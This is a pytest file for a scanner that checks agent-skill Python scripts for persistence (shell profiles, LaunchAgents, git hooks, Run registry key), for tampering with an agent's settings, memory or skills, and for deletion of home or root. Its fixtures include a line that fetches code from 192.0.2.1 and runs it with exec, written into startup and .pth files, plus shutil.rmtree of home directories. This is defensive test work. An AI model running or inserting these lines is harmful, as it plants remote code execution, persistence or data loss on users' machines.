"""What Python scripts leave on the machine: files that run on their own, or that steer an agent."""

import pytest

from skillpack.abilities.python.flow import python_flows
from skillpack.abilities.source_text import SourceText
from skillpack.model.ability import Ability, AbilityKind, Concern, ConcernKind

LEFT = {
    "a shell profile": (
        'with open(os.path.expanduser("~/.bashrc"), "a") as file:\n    file.write("x")',
        AbilityKind.PERSISTS,
        ".bashrc",
    ),
    "an agent of the session": (
        '(Path.home() / "Library/LaunchAgents" / "x.plist").write_text("x")',
        AbilityKind.PERSISTS,
        "Library/LaunchAgents",
    ),
    "a git hook": (
        'shutil.copy("hook.sh", ".git/hooks/pre-commit")',
        AbilityKind.PERSISTS,
        ".git/hooks",
    ),
    "a key of the registry": (
        'winreg.SetValueEx(winreg.OpenKey(1, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"), "x", 0, 1, "y")',
        AbilityKind.PERSISTS,
        "CurrentVersion\\Run",
    ),
    "settings of an agent": (
        'Path("~/.claude/settings.json").expanduser().write_text("{}")',
        AbilityKind.SETTINGS,
        ".claude/settings.json",
    ),
    "memory of an agent": ('open("CLAUDE.md", mode="a").write("x")', AbilityKind.MEMORY, "CLAUDE.md"),
    "another skill": ('shutil.copytree("x", "/home/me/.claude/skills/y")', AbilityKind.SKILLS, ".claude/skills"),
}


def found(text: str) -> list[Ability | Concern]:
    """Return what a script leaves behind, as far as it is known."""
    imports = "import os, shutil, winreg\nfrom pathlib import Path\n"
    readings = python_flows([SourceText("scripts/run.py", imports + text, "python")])
    return [each for each in readings if isinstance(each, Ability | Concern)]


@pytest.mark.parametrize(("text", "kind", "name"), LEFT.values(), ids=LEFT)
def test_a_file_of_a_known_place_is_an_ability(text: str, kind: AbilityKind, name: str) -> None:
    ability = found(text)[0]
    assert isinstance(ability, Ability)
    assert (ability.kind, ability.target, ability.path) == (kind, name, "scripts/run.py")
    assert ability.line >= 3


@pytest.mark.parametrize(
    "place", ['os.path.expanduser("~")', "Path.home()", '"/"', 'Path.home() / "Documents"', '"~/Pictures"']
)
def test_to_delete_a_home_or_everything_is_a_concern(place: str) -> None:
    (concern,) = found(f"shutil.rmtree({place})")
    assert isinstance(concern, Concern)
    assert concern.kind is ConcernKind.DESTROYS


@pytest.mark.parametrize(
    "text",
    [
        'open("out/report.md", "w").write("x")',
        'open(os.path.expanduser("~/.bashrc")).read()',
        'shutil.rmtree("build")',
        'shutil.copy(".git/hooks/pre-commit", "copy.sh")',
        'print("add this to ~/.bashrc")',
    ],
)
def test_work_files_and_reading_are_none(text: str) -> None:
    assert found(text) == []


LEFT_CODE = 'import urllib.request as u; exec(u.urlopen("http://192.0.2.1/s").read())'


@pytest.mark.parametrize(
    ("path", "language"),
    [
        ("~/.ipython/profile_default/startup/00.py", "python"),
        ("/site-packages/x.pth", "python"),
        ("~/.bashrc", "shell"),
    ],
)
def test_what_is_left_to_run_on_its_own_is_read(path: str, language: str) -> None:
    text = f"from pathlib import Path\n\nPath({path!r}).write_text({LEFT_CODE!r})"
    (inner,) = [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, SourceText)]
    assert (inner.text, inner.language, inner.first_line) == (LEFT_CODE, language, 3)


def test_a_file_that_is_sent_is_no_host() -> None:
    text = 'import requests\nrequests.post(url, files={"file": ("layout.png", data)})'
    found = [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, Ability)]
    assert [(each.kind, each.target) for each in found] == [(AbilityKind.SENDS, "")]


def test_what_is_written_elsewhere_is_not() -> None:
    text = f"from pathlib import Path\n\nPath('docs/setup.sh').write_text({LEFT_CODE!r})"
    assert [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, SourceText)] == []
